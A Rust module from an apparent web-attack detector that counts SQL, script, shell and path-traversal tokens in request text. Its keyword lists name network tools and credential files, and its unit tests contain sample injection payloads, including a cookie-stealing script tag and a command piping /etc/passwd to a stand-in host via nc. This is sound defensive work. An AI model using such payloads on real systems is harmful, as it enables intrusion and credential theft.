//! Counts of attack tokens in decoded request text, in one pass.
//!
//! The text is cut into words (runs of ASCII letters, digits and `_`) and the
//! punctuation between them; words are looked up in fixed keyword lists and punctuation
//! is matched by a few short patterns. One pass with no allocation, instead of one
//! substring search per keyword.

use crate::scan::is_syntax;

/// Token counts by attack class.
#[derive(Debug, Default, Clone, Copy, PartialEq, Eq)]
pub struct TokenCounts {
    /// SQL keywords and syntax (`union`, `select`, `--`, `' or`, `/*`).
    pub sql: u32,
    /// Script injection (`<script`, `onerror`, `javascript`, `alert(`).
    pub script: u32,
    /// Shell commands and metacharacters (`;`, `|`, `` ` ``, `$(`, `wget`, `/bin/sh`).
    pub shell: u32,
    /// Path traversal and sensitive files (`../`, `etc/passwd`, `win.ini`).
    pub traversal: u32,
}

enum Class {
    Sql,
    Script,
    Shell,
    Traversal,
}

fn keyword(word: &[u8]) -> Option<Class> {
    Some(match word {
        b"select"
        | b"union"
        | b"insert"
        | b"update"
        | b"delete"
        | b"drop"
        | b"from"
        | b"where"
        | b"sleep"
        | b"benchmark"
        | b"waitfor"
        | b"delay"
        | b"information_schema"
        | b"concat"
        | b"group_concat"
        | b"char"
        | b"chr"
        | b"exec"
        | b"execute"
        | b"xp_cmdshell"
        | b"having"
        | b"null"
        | b"table"
        | b"database"
        | b"version"
        | b"substring"
        | b"substr"
        | b"ascii"
        | b"cast"
        | b"declare"
        | b"truncate"
        | b"alter"
        | b"into"
        | b"values"
        | b"load_file"
        | b"outfile"
        | b"dumpfile"
        | b"sysobjects"
        | b"pg_sleep"
        | b"dbms_pipe"
        | b"utl_inaddr"
        | b"extractvalue"
        | b"updatexml"
        | b"tables"
        | b"columns"
        | b"schema"
        | b"limit"
        | b"offset" => Class::Sql,
        b"script" | b"javascript" | b"vbscript" | b"onerror" | b"onload" | b"onmouseover"
        | b"onfocus" | b"onclick" | b"onmouseout" | b"onblur" | b"ontoggle" | b"alert"
        | b"prompt" | b"confirm" | b"iframe" | b"svg" | b"eval" | b"document" | b"cookie"
        | b"fromcharcode" | b"expression" | b"innerhtml" | b"srcdoc" | b"onanimationstart" => {
            Class::Script
        }
        b"bin" | b"sh" | b"bash" | b"zsh" | b"cmd" | b"wget" | b"curl" | b"nc" | b"netcat"
        | b"ncat" | b"chmod" | b"cat" | b"whoami" | b"uname" | b"ping" | b"echo"
        | b"powershell" | b"exe" | b"rm" | b"ls" | b"ifconfig" | b"nslookup" | b"perl"
        | b"python" | b"tftp" | b"busybox" | b"sudo" => Class::Shell,
        b"passwd" | b"shadow" | b"htaccess" | b"htpasswd" | b"boot" | b"system32" | b"environ"
        | b"proc" | b"etc" | b"winnt" | b"windows" | b"git" | b"svn" | b"env" | b"wp" | b"ini" => {
            Class::Traversal
        }
        _ => return None,
    })
}

/// Words whose presence alone is weak evidence (`cat`, `etc`, `ls`, `from`, `ini`
/// occur in ordinary requests): they count only next to attack syntax, checked by the
/// caller through `strong`.
fn is_weak(word: &[u8]) -> bool {
    matches!(
        word,
        b"cat"
            | b"ls"
            | b"rm"
            | b"sh"
            | b"nc"
            | b"bin"
            | b"exe"
            | b"echo"
            | b"ping"
            | b"from"
            | b"where"
            | b"into"
            | b"values"
            | b"null"
            | b"table"
            | b"version"
            | b"char"
            | b"limit"
            | b"offset"
            | b"tables"
            | b"columns"
            | b"schema"
            | b"delete"
            | b"update"
            | b"insert"
            | b"etc"
            | b"ini"
            | b"env"
            | b"git"
            | b"svn"
            | b"wp"
            | b"boot"
            | b"proc"
            | b"windows"
            | b"document"
            | b"cookie"
            | b"svg"
            | b"prompt"
            | b"confirm"
            | b"expression"
            | b"cast"
            | b"ascii"
            | b"drop"
            | b"delay"
    )
}

/// Counts the attack tokens in `text` (decoded; case is ignored).
pub fn scan(text: &[u8]) -> TokenCounts {
    let syntax_seen =
        text.iter().any(|&b| is_syntax(b)) || contains(text, b"../") || contains(text, b"..\\");
    scan_with_syntax(text, syntax_seen)
}

/// [`scan`] when whether `text` holds attack syntax (see
/// [`crate::scan::TextStats::syntax_seen`]) is already known.
pub fn scan_with_syntax(text: &[u8], syntax_seen: bool) -> TokenCounts {
    let mut c = TokenCounts::default();
    let mut word = [0u8; 24];
    let mut i = 0;
    // The last non-space byte before the current position, to spot `' or 1=1`.
    let mut prev_sig = 0u8;
    while i < text.len() {
        let b = text[i];
        if b.is_ascii_alphanumeric() || b == b'_' {
            let start = i;
            while i < text.len() && (text[i].is_ascii_alphanumeric() || text[i] == b'_') {
                i += 1;
            }
            let len = i - start;
            if len <= word.len() {
                for (dst, src) in word.iter_mut().zip(&text[start..i]) {
                    *dst = src.to_ascii_lowercase();
                }
                let w = &word[..len];
                if (w == b"or" || w == b"and" || w == b"xor")
                    && matches!(prev_sig, b'\'' | b'"' | b')' | b'0'..=b'9')
                {
                    c.sql += 1;
                } else if let Some(class) = keyword(w)
                    && (syntax_seen || !is_weak(w))
                {
                    match class {
                        Class::Sql => c.sql += 1,
                        Class::Script => c.script += 1,
                        Class::Shell => c.shell += 1,
                        Class::Traversal => c.traversal += 1,
                    }
                }
            }
            prev_sig = text[i - 1];
            continue;
        }
        let rest = &text[i..];
        match b {
            b'-' if rest.starts_with(b"--") => c.sql += 1,
            b'/' if rest.starts_with(b"/*") => c.sql += 1,
            b'\'' | b'"' => c.sql += 1,
            b';' => c.shell += 1,
            b'|' | b'`' => c.shell += 1,
            b'$' if rest.starts_with(b"$(") || rest.starts_with(b"${") => c.shell += 1,
            b'&' if rest.starts_with(b"&&") => c.shell += 1,
            b'<' if rest
                .get(1)
                .is_some_and(|&n| n.is_ascii_alphabetic() || n == b'/' || n == b'!') =>
            {
                c.script += 1
            }
            b'.' if rest.starts_with(b"../") || rest.starts_with(b"..\\") => c.traversal += 1,
            b'\0' => c.traversal += 1,
            _ => {}
        }
        if !b.is_ascii_whitespace() {
            prev_sig = b;
        }
        i += 1;
    }
    c
}

fn contains(haystack: &[u8], needle: &[u8]) -> bool {
    memchr::memmem::find(haystack, needle).is_some()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn sql_injection() {
        let c = scan(b"id=1' OR 1=1--");
        assert!(c.sql >= 3, "{c:?}");
        let c = scan(b"q=1 UNION SELECT password FROM users");
        assert!(c.sql >= 2, "{c:?}");
        assert_eq!(c.shell, 0);
        assert_eq!(scan(b"q=salt and pepper from spain").sql, 0);
    }

    #[test]
    fn script_shell_traversal() {
        let c = scan(b"name=<script>alert(document.cookie)</script>");
        assert!(c.script >= 4, "{c:?}");
        let c = scan(b"host=127.0.0.1; cat /etc/passwd | nc evil 4444");
        assert!(c.shell >= 4, "{c:?}");
        assert!(c.traversal >= 2, "{c:?}");
        let c = scan(b"/download?file=../../../../etc/passwd");
        assert!(c.traversal >= 5, "{c:?}");
    }

    #[test]
    fn ordinary_requests_are_quiet() {
        for text in [
            &b"/catalog/item?id=42&page=3"[..],
            b"/etc/config.ini",
            b"/blog/2024/how-to-cook?ref=home",
            b"/products?category=shoes&sort=price",
        ] {
            assert_eq!(scan(text), TokenCounts::default(), "{}", String::from_utf8_lossy(text));
        }
    }
}
